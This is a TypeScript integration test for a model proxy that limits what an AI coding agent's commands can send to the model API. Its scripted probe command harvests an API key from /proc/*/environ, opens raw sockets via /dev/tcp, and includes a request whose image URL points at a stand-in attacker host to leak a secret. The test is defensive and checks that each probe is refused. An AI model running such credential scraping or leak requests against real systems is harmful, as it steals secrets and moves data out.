/**
 * The model proxy relays only what codex needs, proved through a real turn: a command of the turn
 * reads the turn's credential from codex's environment and talks to the model socket itself
 * (127.0.0.1:3129 inside), under egress "model". The scripted model API on the host's loopback
 * receives none of the refused requests, and none of the tenant's organisation or project headers;
 * codex's own requests in that workspace carry no web_search tool (it is told webSearchMode
 * "disabled"), so the turn completes.
 *
 * Nothing here leaves the machine: every URL in a refused body is on a name that is never
 * resolved (the proxy refuses it before forwarding).
 */
import { after, before, beforeEach, describe, test } from "node:test";
import assert from "node:assert/strict";
import type { TurnResult } from "../../src/service.js";
import { ResponsesStub, eventsFor, type ScriptStep } from "../support/responses-stub.js";
import { startTestSidecar, type TestSidecar } from "../support/sidecar.js";
import { withTimeout } from "../support/wait.js";

const TURN_TIMEOUT_MS = 120_000;

/**
 * `mp LABEL METHOD PATH BODY [HEADER...]` sends a raw request to the model forwarder with the
 * turn's credential and prints "MP LABEL status=<code> refused=<x-alive-model-refused or none>".
 */
const PROBES = [
  "KEY=$(for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$f\" 2>/dev/null; done | sed -n 's/^CODEX_API_KEY=//p' | grep '^alive-turn-' | head -n1)",
  'echo "KEY ${KEY:0:11}"',
  "mp() (",
  "  label=$1; method=$2; path=$3; body=$4; shift 4",
  '  exec 3<>/dev/tcp/127.0.0.1/3129 || { echo "MP $label status=noconnect"; exit 0; }',
  '  extra=""; for h in "$@"; do extra="$extra$h\\r\\n"; done',
  '  printf "%s %s HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nAuthorization: Bearer %s\\r\\nContent-Type: application/json\\r\\nContent-Length: %d\\r\\n%bConnection: close\\r\\n\\r\\n%s" "$method" "$path" "$KEY" "${#body}" "$extra" "$body" >&3',
  "  resp=$(timeout 20 cat <&3 | tr -d '\\r')",
  "  status=$(printf '%s\\n' \"$resp\" | head -n1 | cut -d' ' -f2)",
  "  refused=$(printf '%s\\n' \"$resp\" | sed -n 's/^x-alive-model-refused: //Ip' | head -n1)",
  '  echo "MP $label status=$status refused=${refused:-none}"',
  ")",
].join("\n");

const IMAGE_URL_BODY = JSON.stringify({
  model: "gpt-5.5",
  stream: true,
  input: [
    {
      type: "message",
      role: "user",
      content: [
        { type: "input_text", text: "tenant-image" },
        { type: "input_image", image_url: "https://attacker.invalid/leak.png?d=secret" },
      ],
    },
  ],
});
const WEB_SEARCH_BODY = JSON.stringify({
  model: "gpt-5.5",
  stream: true,
  input: "tenant-search",
  tools: [{ type: "web_search" }],
});
const HEADERS_BODY = JSON.stringify({ model: "gpt-5.5", stream: true, input: "tenant-headers-probe" });

const COMMAND = [
  PROBES,
  "mp files GET /v1/files ''",
  "mp delete DELETE /v1/files/x ''",
  `mp chat POST /v1/chat/completions '{"model":"gpt-5.5","messages":[{"role":"user","content":"tenant-chat"}]}'`,
  `mp image POST /v1/responses '${IMAGE_URL_BODY}'`,
  `mp search POST /v1/responses '${WEB_SEARCH_BODY}'`,
  `mp headers POST /v1/responses '${HEADERS_BODY}' 'OpenAI-Organization: org-tenant' 'OpenAI-Project: proj_tenant'`,
  "echo PROBES-DONE",
].join("\n");

function commandStep(cmd: string): ScriptStep {
  const events = eventsFor({ kind: "command", cmd }, 4242).map((event) => {
    const item = event.item as { type?: string; arguments?: string } | undefined;
    if (item?.type !== "function_call") return event;
    return { ...event, item: { ...item, arguments: JSON.stringify({ cmd, yield_time_ms: 60_000 }) } };
  });
  return { kind: "events", events };
}

function commandOutput(result: TurnResult): string {
  return result.items.map((item) => (item.type === "command_execution" ? item.aggregated_output : "")).join("\n");
}

function probe(output: string, label: string): { status: string; refused: string } {
  const match = new RegExp(`^MP ${label} status=(\\S*) refused=(\\S*)$`, "m").exec(output);
  assert.ok(match, `probe ${label} printed nothing:\n${output}`);
  return { status: match[1]!, refused: match[2]! };
}

describe("the model proxy relays only what codex needs, through a real turn", () => {
  let stub: ResponsesStub;
  let t: TestSidecar;

  before(async () => {
    stub = await ResponsesStub.start({ host: "127.0.0.1" });
    t = await startTestSidecar({
      stub,
      flags: { "--openai-organization": "org-operator", "--openai-project": "proj_operator" },
    });
  });
  after(async () => {
    await t?.cleanup();
    await stub?.close();
  });
  beforeEach(() => stub.reset());

  test('under egress "model", a command holding the credential reaches none of the refused endpoints, bodies or headers', async () => {
    const ws = await t.workspace(undefined, { egress: "model" });
    await t.sidecar.service.ensureWorkspace(ws);
    // The command's own allowed POST /v1/responses, and codex's last request, get the stub's default "ok".
    stub.script(commandStep(COMMAND));
    const result = await withTimeout(
      t.sidecar.service.runTurn(
        { workspaceId: ws.workspaceId, input: "run the probes", options: { timeoutMs: TURN_TIMEOUT_MS } },
        { onEvent: () => undefined },
      ),
      TURN_TIMEOUT_MS + 10_000,
      "the turn",
    );
    assert.equal(result.status, "completed", JSON.stringify(result.error));
    const output = commandOutput(result);
    assert.match(output, /^KEY alive-turn-$/m, "the command found the turn's credential");
    assert.match(output, /PROBES-DONE/);

    assert.deepEqual(probe(output, "files"), { status: "403", refused: "path" });
    assert.deepEqual(probe(output, "delete"), { status: "403", refused: "path" });
    assert.deepEqual(probe(output, "chat"), { status: "403", refused: "path" });
    assert.deepEqual(probe(output, "image"), { status: "403", refused: "remote_input" });
    assert.deepEqual(probe(output, "search"), { status: "403", refused: "web_search" });
    assert.deepEqual(probe(output, "headers"), { status: "200", refused: "none" });

    // What the model API saw.
    assert.deepEqual(
      stub.otherRequests.map((r) => `${r.method} ${r.path}`),
      [],
      "no files, deletions or chat completions",
    );
    // Judged on the requests' structure: codex's own later requests carry the command's text (with
    // these bodies in it) as the function call's arguments, which is fine.
    const imageParts = stub.requests.flatMap((r) =>
      (Array.isArray(r.body?.input) ? (r.body.input as Array<{ content?: unknown }>) : [])
        .flatMap((item) =>
          Array.isArray(item.content) ? (item.content as Array<{ type?: string; image_url?: string }>) : [],
        )
        .filter((part) => part.type === "input_image"),
    );
    assert.deepEqual(imageParts, [], "no request with an input_image reached the model API");
    assert.ok(
      !stub.requests.some((r) => r.body?.input === "tenant-search"),
      "the web_search request never reached the model API",
    );
    for (const request of stub.requests) {
      const tools = (request.body?.tools ?? []) as Array<{ type?: string }>;
      assert.ok(
        !tools.some((tool) => String(tool.type).startsWith("web_search")),
        "codex itself sent no web_search tool",
      );
      assert.equal(request.headers["openai-organization"], "org-operator");
      assert.equal(request.headers["openai-project"], "proj_operator");
    }
    const probeRequest = stub.requests.find((r) => JSON.stringify(r.body).includes("tenant-headers-probe"));
    assert.ok(probeRequest, "the command's allowed request reached the model API");
    assert.equal(probeRequest.headers.authorization, `Bearer ${t.config.codexApiKey}`);

    const refusals = t.logLines.filter((line) => line.includes("model proxy: request refused"));
    assert.ok(refusals.some((line) => line.includes('"reason":"path"')));
    assert.equal(
      refusals.filter((line) => line.includes('"reason":"path"')).length,
      1,
      "logged once per workspace and reason",
    );
  });
});
